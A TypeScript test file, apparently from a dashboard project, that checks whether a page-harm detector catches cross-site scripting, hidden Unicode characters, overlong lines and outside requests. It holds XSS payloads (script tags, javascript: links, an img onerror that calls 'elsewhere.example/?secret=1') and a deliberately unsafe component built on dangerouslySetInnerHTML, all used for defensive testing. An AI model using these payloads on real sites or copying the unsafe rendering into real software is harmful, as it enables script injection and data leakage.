// The checks of attacked pages see each kind of harm: on small pages, and on a copy of the dashboard without its guard.

import { mkdtempSync, rmSync } from "node:fs";
import { createServer } from "node:http";
import { tmpdir } from "node:os";
import { join } from "node:path";
import type { Page } from "playwright-core";
import { expect, it, onTestFinished } from "vitest";
import { buildDashboard } from "../../../scripts/build-dashboard.ts";
import { IS_FULL_TEST } from "../../full-test.ts";
import { PATIENCE } from "../../patience.ts";
import { browserForTests } from "../browser-tests.ts";
import { DashboardWorld, isLive } from "../dashboard/dashboard-world.ts";
import { AttackedPage } from "./attacked-page.ts";
import { plantText } from "./planted-runs.ts";

const browser = browserForTests();

/** A page, with what is printed and requested there. */
async function openPage(html: string) {
  const server = createServer((_, response) =>
    response
      .writeHead(200, { "content-type": "text/html", "content-security-policy": "img-src 'self'" })
      .end(`<!doctype html><meta charset=utf-8><title>page</title>${html}`),
  );
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  onTestFinished(() => {
    server.closeAllConnections();
    server.close();
  });
  const address = server.address();
  const url = `http://127.0.0.1:${typeof address === "object" ? address?.port : ""}`;
  const tab = await (await browser.newContext()).newTab(url);
  tab.expectError(/elsewhere\.example|ERR_NAME_NOT_RESOLVED|img-src/);
  await tab.page.goto(url);
  return { tab, attacked: new AttackedPage(tab.page) };
}

it.each([
  ["a script that has run", "<script>window.pwned=1</script>", /^a script has run$/],
  ["a link that runs a script", '<a href="javascript:window.pwned=1">x</a>', /^a link leads to javascript:/],
  ["a link that says where it was", '<a href="http://elsewhere.example/">x</a>', /^a link leads to http:/],
  ["a character that is not seen", "<p>ana\u202e@example.com</p>", /^not seen: "ana/],
  ["one in a tooltip", '<p title="ana\u200b">ana</p>', /^not seen: "ana/],
  ["one in the title of the tab", "<title></title><script>document.title = 'a\\u2060'</script>", /^not seen/],
  ["a line that does not break", `<p>${"x".repeat(2_000)}</p>`, /^wider than its window at 1280: /],
  ["one that is too long for a phone", `<p>${"x".repeat(70)}</p>`, /^wider than its window at 360: /],
])("catches %s", async (_, html, harm) => {
  const { attacked } = await openPage(html);
  expect(await attacked.harm()).toContainEqual(expect.stringMatching(harm));
});

it("catches a request to elsewhere, and what the policy of the page refuses", async () => {
  const asked = await openPage('<link rel="stylesheet" href="http://elsewhere.example/?secret=1">');
  await expect
    .poll(() => asked.tab.errors, { timeout: 20_000 })
    .toContain("requested http://elsewhere.example/?secret=1");
  const refused = await openPage('<img src="http://elsewhere.example/?secret=1">');
  await expect
    .poll(() => refused.tab.errors, { timeout: 20_000 })
    .toContainEqual(expect.stringMatching(/^refused by the policy: img-src/));
});

it("finds no harm on a page without any", async () => {
  const { tab, attacked } = await openPage('<p>ana@example.com <a href="/x">&lt;script&gt;</a></p>');
  expect(await attacked.harm()).toEqual([]);
  expect(tab.errors).toEqual([]);
});

/** What a dashboard would be that makes HTML of texts. */
const WEAK_TEXTS = `
export const shownLine = (text) => text;
export const VisibleLine = ({ text }) => <span dangerouslySetInnerHTML={{ __html: text }} />;
export const VisibleText = ({ text }) => (
  <span style={{ whiteSpace: "nowrap" }} dangerouslySetInnerHTML={{ __html: text }} />
);
`;

it.runIf(IS_FULL_TEST)("catches a weak dashboard by what its texts do", PATIENCE, async () => {
  const folder = mkdtempSync(join(tmpdir(), "pawl-weak-"));
  const weak = {
    name: "weak-texts",
    enforce: "pre",
    load: (id: string) => (id.endsWith("/visible.tsx") ? WEAK_TEXTS : null),
  } as const;
  await buildDashboard(join(folder, "files"), [weak]);
  const world = await DashboardWorld.start(folder, join(folder, "files"));
  onTestFinished(async () => {
    await world.close();
    rmSync(folder, { recursive: true, force: true });
  });
  const text = `<img src="http://elsewhere.example/?secret=1" onerror="window.pwned=1">\u202e${"x".repeat(3_000)}`;
  const ground = { store: world.store, workspaceRoot: join(folder, "workspaces") };
  const { waitIds } = await plantText(ground, { id: "weak", text: text.slice(0, 900) });

  /** A tab of a person who signs in. */
  const signingIn = async (prepare: (page: Page) => Promise<unknown>) => {
    const tab = await (await browser.newContext()).newTab(world.url);
    tab.expectError(/./);
    await prepare(tab.page);
    await tab.page.goto(`${world.url}/#code=${await world.codeFor("ana", "admin")}`);
    return tab;
  };
  // With the policy of the server, no text becomes HTML, and the attempt is noticed.
  const held = await signingIn(async () => undefined);
  const refusal = expect.stringMatching(/^refused by the policy: require-trusted-types-for/);
  await expect.poll(() => held.errors, { timeout: 20_000 }).toContainEqual(refusal);
  // Without it, nothing holds them.
  const { page, errors } = await signingIn((open) =>
    open.route(
      ({ origin, pathname }) => origin === world.url && !pathname.startsWith("/v1/"),
      async (route) => {
        const response = await route.fetch();
        const { "content-security-policy": _, ...headers } = response.headers();
        await route.fulfill({ response, headers });
      },
    ),
  );
  // What the texts still ask for when the test ends is of no interest.
  onTestFinished(() => page.unrouteAll({ behavior: "ignoreErrors" }));
  // Another address before the code is redeemed would leave the person signed out.
  await isLive(page);
  const attacked = new AttackedPage(page);
  await attacked.open(`${world.url}/waits/${encodeURIComponent(waitIds[0] ?? "")}`, "article");
  await expect.poll(() => page.evaluate("window.pwned"), { timeout: 20_000 }).toBe(1);
  const harm = (await attacked.harm()).join("\n");
  expect(harm).toMatch(/a script has run/);
  expect(harm).toMatch(/not seen: /);
  expect(harm).toMatch(/wider than its window/);
  expect(errors).toContain("requested http://elsewhere.example/?secret=1");
});
